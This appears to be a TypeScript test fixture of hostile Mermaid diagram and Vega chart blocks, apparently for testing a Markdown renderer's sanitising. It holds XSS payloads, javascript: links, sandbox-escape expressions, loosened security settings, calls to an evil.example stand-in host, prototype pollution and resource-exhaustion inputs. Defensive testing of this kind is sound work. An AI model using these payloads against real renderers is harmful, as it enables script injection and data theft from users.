import type { Attack } from "./markdownAttacks.ts";

const block = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\``;
const markup = "<img src=//evil.example/x onerror=alert(1)><script>alert(1)</script>";

const mermaid = (name: string, text: string): Attack => ({ name: `diagram: ${name}`, source: block("mermaid", text) });
const chart = (name: string, spec: unknown, language: "vega" | "vega-lite" = "vega-lite"): Attack => ({
  name: `chart: ${name}`,
  source: block(language, typeof spec === "string" ? spec : JSON.stringify(spec)),
});

const data = { values: [{ a: "A", b: 1 }] };
const bars = { data, mark: "bar", encoding: { x: { field: "a" }, y: { field: "b", type: "quantitative" } } };
const hostileExpressions = [
  "datum.b.constructor.constructor('alert(1)')()",
  "this.constructor.constructor('alert(1)')()",
  "[]['filter']['constructor']('alert(1)')()",
  "window.alert(1)",
  "eval('alert(1)')",
  "import('https://evil.example/x.js')",
  "warn({toString: 'x'}, open('https://evil.example'))",
];

/** Hostile blocks of the languages that are drawn or folded. */
export const blockAttacks: readonly Attack[] = [
  mermaid("a click that is a script", 'graph LR\n  A --> B\n  click A "javascript:alert(1)"'),
  mermaid("a click that leads away", 'graph LR\n  A --> B\n  click A href "https://evil.example" _top'),
  mermaid("a click that calls", "graph LR\n  A --> B\n  click A call alert(1)\n  click B alert"),
  mermaid("markup in a label", `graph LR\n  A["${markup}"] --> B["<iframe src=//evil.example>"]`),
  mermaid("markup on a line", `graph LR\n  A -->|"${markup}"| B`),
  mermaid("Markdown in a label", 'graph LR\n  A["`**x** [a](javascript:alert(1)) ![i](//evil.example/i.png)`"]'),
  mermaid(
    "settings that loosen",
    `%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true},"secure":[]}}%%\ngraph LR\n  A["${markup}"]`,
  ),
  mermaid(
    "front matter that loosens",
    `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  secure: []\n---\ngraph LR\n  A["${markup}"]`,
  ),
  mermaid(
    "styles of the theme",
    `---\nconfig:\n  themeCSS: "@import url(//evil.example/x.css); *{background:url(//evil.example/y)}"\n---\ngraph LR\n  A --> B`,
  ),
  mermaid(
    "variables of the theme",
    `%%{init: {"theme":"base","themeVariables":{"primaryColor":"red;}*{background:url(//evil.example/x)}","fontFamily":"x;background:url(//evil.example/y)"}}}%%\ngraph LR\n  A --> B`,
  ),
  mermaid(
    "letters from elsewhere",
    `%%{init: {"fontFamily":"a; } @import '//evil.example/x.css'; {"}}%%\ngraph LR\n  A`,
  ),
  mermaid(
    "styles of a node",
    "graph LR\n  A --> B\n  style A fill:url(//evil.example/x)\n  classDef c fill:url(https://evil.example/y)\n  class B c",
  ),
  mermaid("styles of a line", "graph LR\n  A --> B\n  linkStyle 0 stroke:url(//evil.example/x)"),
  mermaid("a picture as a node", 'graph LR\n  A@{ img: "https://evil.example/p.png", label: "x", w: 60, h: 60 } --> B'),
  mermaid("an icon as a node", 'graph LR\n  A@{ icon: "fa:user", label: "x" } --> B[fa:fa-user x]'),
  mermaid("a formula with a link", 'graph LR\n  A["$$\\\\href{javascript:alert(1)}{x}$$"]'),
  mermaid(
    "a prototype",
    '%%{init: {"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}%%\ngraph LR\n  A',
  ),
  mermaid("names of the prototype", "graph LR\n  __proto__ --> constructor --> toString"),
  mermaid("a title", `graph LR\n  accTitle: ${markup}\n  accDescr: ${markup}\n  A --> B`),
  mermaid(
    "links of a sequence",
    'sequenceDiagram\n  participant A\n  link A: x @ javascript:alert(1)\n  links A: {"y":"javascript:alert(1)"}\n  A->>A: x',
  ),
  mermaid("messages of a sequence", `sequenceDiagram\n  A->>B: ${markup}\n  Note over A: ${markup}`),
  mermaid(
    "links of a class",
    'classDiagram\n  class A\n  link A "javascript:alert(1)"\n  callback A "alert"\n  click A href "javascript:alert(1)"',
  ),
  mermaid(
    "tasks",
    'gantt\n  dateFormat YYYY-MM-DD\n  section x\n  a :a1, 2026-01-01, 3d\n  click a1 href "javascript:alert(1)"\n  click a1 call alert(1)',
  ),
  mermaid(
    "people",
    'C4Context\n  Person(a, "x", "y", $sprite="https://evil.example/p.png", $link="javascript:alert(1)")',
  ),
  mermaid(
    "tickets",
    "---\nconfig:\n  kanban:\n    ticketBaseUrl: 'javascript:alert(1)//#TICKET#'\n---\nkanban\n  a\n    b@{ ticket: X }",
  ),
  mermaid("a mind", `mindmap\n  root((${markup}))\n    ::icon(fa fa-book)\n    a`),
  mermaid(
    "references that multiply",
    `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nconfig:\n  theme: *c\n---\ngraph LR\n  A`,
  ),
  mermaid("parts in parts", `graph LR\n${"subgraph a\n".repeat(80)}A${"\nend".repeat(80)}`),
  mermaid(
    "many lines",
    `graph LR\n${Array.from({ length: 400 }, (_, n) => `n${n % 50} --> n${(n * 7) % 50}`).join("\n")}`,
  ),
  mermaid(
    "many lines in one",
    `graph LR\n  ${Array.from({ length: 40 }, (_, n) => `a${n}`).join(" & ")} --> ${Array.from({ length: 40 }, (_, n) => `b${n}`).join(" & ")}`,
  ),
  mermaid("a long word", `graph LR\n  A["${"x".repeat(2_000)}"]`),
  mermaid("nothing", ""),
  mermaid("another kind", "alert(1)"),

  ...hostileExpressions.flatMap((expr) => [
    chart(`calculates ${expr}`, { ...bars, transform: [{ calculate: expr, as: "c" }] }),
    chart(
      `has a signal ${expr}`,
      { signals: [{ name: "s", init: expr, on: [{ events: "timer{1}", update: expr }] }], marks: [] },
      "vega",
    ),
  ]),
  chart("data from elsewhere", { ...bars, data: { url: "https://evil.example/x.csv" } }),
  chart("data from here", { ...bars, data: { url: "/api/session" } }),
  chart("data from a name", '{"data":{"url":"//evil.example/x.csv"},"usermeta":{"embedOptions":{"loader":{}}}}'),
  chart("data of the whole", { data: [{ name: "d", url: "https://evil.example/x.json" }], marks: [] }, "vega"),
  chart(
    "data by a signal",
    { signals: [{ name: "u", value: "https://evil.example" }], data: [{ name: "d", url: { signal: "u" } }], marks: [] },
    "vega",
  ),
  chart("a picture", { ...bars, mark: { type: "image", url: "https://evil.example/p.png", width: 9, height: 9 } }),
  chart("a picture by its data", { ...bars, mark: "image", encoding: { url: { value: "javascript:alert(1)" } } }),
  chart("a link", { ...bars, encoding: { ...bars.encoding, href: { value: "javascript:alert(1)" } } }),
  chart("a tip", { ...bars, encoding: { ...bars.encoding, tooltip: { value: markup } } }),
  chart("a title", { ...bars, title: markup, description: markup }),
  chart("labels", { ...bars, data: { values: [{ a: markup, b: 1 }] } }),
  chart("letters", { ...bars, config: { font: "x; background: url(//evil.example/x)" } }),
  chart("a colour", { ...bars, mark: { type: "bar", color: "url(//evil.example/x)" } }),
  chart("a ground", { ...bars, background: "url(https://evil.example/x)" }),
  chart(
    "a place in the page",
    { signals: [{ name: "s", bind: { element: "body", input: "text" } }], marks: [] },
    "vega",
  ),
  chart(
    "events of the page",
    { signals: [{ name: "s", on: [{ events: "window:mousemove", update: "open('//evil.example')" }] }], marks: [] },
    "vega",
  ),
  chart("settings of embedding", {
    ...bars,
    usermeta: { embedOptions: { loader: {}, actions: true, editorUrl: "javascript:alert(1)" } },
  }),
  chart("another schema", { ...bars, $schema: "javascript:alert(1)" }),
  chart(
    "a prototype",
    '{"__proto__":{"polluted":true},"mark":"bar","data":{"values":[{"__proto__":{"polluted":true}}]}}',
  ),
  chart(
    "more than there is",
    { data: [{ name: "t", transform: [{ type: "sequence", start: 0, stop: 1e12 }] }], marks: [] },
    "vega",
  ),
  chart("depth", `${"[".repeat(1_500)}1${"]".repeat(1_500)}`),
  chart("depth of parts", `${'{"layer":['.repeat(300)}{}${"]}".repeat(300)}`),

  { name: "folded: toggle", source: block("toggle", `${markup}\n[x](javascript:alert(1)) ![x](//evil.example/x)`) },
  {
    name: "folded: apiResult",
    source: block("apiResult", JSON.stringify({ html: markup, url: "javascript:alert(1)" })),
  },
  { name: "JSON", source: block("json", JSON.stringify({ [markup]: markup, __proto__: { polluted: true } })) },
];
